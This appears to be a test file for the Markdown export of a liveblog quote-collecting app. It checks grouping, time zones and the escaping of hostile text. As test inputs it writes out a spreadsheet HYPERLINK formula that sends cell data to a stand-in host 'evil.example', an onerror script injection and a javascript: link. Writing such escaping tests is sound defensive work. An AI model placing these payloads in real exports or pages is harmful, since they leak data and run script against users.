// Markdown export: the expected file (grouped by blog and speaker, ready to paste) and escaping of
// page text that would otherwise become markup.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { escapeMarkdown, markdownUrl, toMarkdown } from '../../../lib/export/markdown';
import { quoteItems, starredItems } from '../../../lib/library/items';
import { sampleSnapshot } from './sample';

const EXPECTED = new URL('../../fixtures/library/expected-export.md', import.meta.url);

describe('markdown export', () => {
  it('matches the checked-in expected file for the sample library', () => {
    const s = sampleSnapshot();
    const md = toMarkdown([...quoteItems(s), ...starredItems(s)], { timeZone: 'UTC' });
    expect(md).toBe(readFileSync(EXPECTED, 'utf8'));
  });

  it('groups by blog, then speaker, quotes oldest first, unattributed last', () => {
    const s = sampleSnapshot();
    const md = toMarkdown(quoteItems(s), { timeZone: 'UTC' });
    const headings = md.split('\n').filter((l) => l.startsWith('#'));
    expect(headings).toEqual([
      '# Liveblog Lens: 6 quotes',
      '## Budget 2024 – live updates (bbc)',
      '### \\=HYPERLINK("http://evil.example/?"&A1)',
      '### Rachel Reeves',
      '### Unattributed',
      '## Ukraine war live: Zelenskyy visits front (guardian)',
      '### Keir Starmer',
      '### Emmanuel Macrón',
    ]);
    // Starmer's two quotes in the order they were said (09:05 before 10:15).
    expect(md.indexOf('Sanctions will tighten')).toBeLessThan(md.indexOf('We will stand with Ukraine'));
  });

  it('prints times in the given zone', () => {
    const s = sampleSnapshot();
    const md = toMarkdown(quoteItems(s).filter((i) => i.key === 'q-reeves-01'), { timeZone: 'Asia/Tokyo' });
    expect(md).toContain('— Tue 2 Jan 2024, 22:30');
  });

  it('escapes HTML and Markdown syntax so hostile text stays text', () => {
    expect(escapeMarkdown('<img src=x onerror=alert(1)>')).toBe('\\<img src=x onerror=alert(1)\\>');
    expect(escapeMarkdown('[click](javascript:alert(1))')).toBe('\\[click\\](javascript:alert(1))');
    expect(escapeMarkdown('# Heading\n- item\n1. one\n> quote\n=====')).toBe('\\# Heading\n\\- item\n1\\. one\n\\> quote\n\\=====');
    expect(escapeMarkdown('`code` *em* _em_ ~~del~~ a|b')).toBe('\\`code\\` \\*em\\* \\_em\\_ \\~\\~del\\~\\~ a\\|b');
    expect(escapeMarkdown('AT&T &amp; &#60;')).toBe('AT&T \\&amp; \\&#60;');
    expect(escapeMarkdown('Plain words, 2% up.')).toBe('Plain words, 2% up.');
  });

  it('keeps link destinations intact and unbreakable', () => {
    expect(markdownUrl('https://example.com/a b>c')).toBe('<https://example.com/a%20b%3Ec>');
  });

  it('never lets a hostile quote produce raw HTML or a link', () => {
    const s = sampleSnapshot();
    const md = toMarkdown(quoteItems(s).filter((i) => i.key === 'q-hostile-1'));
    expect(md).not.toMatch(/(^|[^\\])<img/);
    expect(md).not.toMatch(/(^|[^\\])\[link\]/);
    expect(md).toContain('> \\# not a heading');
  });

  it('says so when nothing is exported', () => {
    expect(toMarkdown([])).toBe('# Liveblog Lens: nothing selected\n');
  });
});
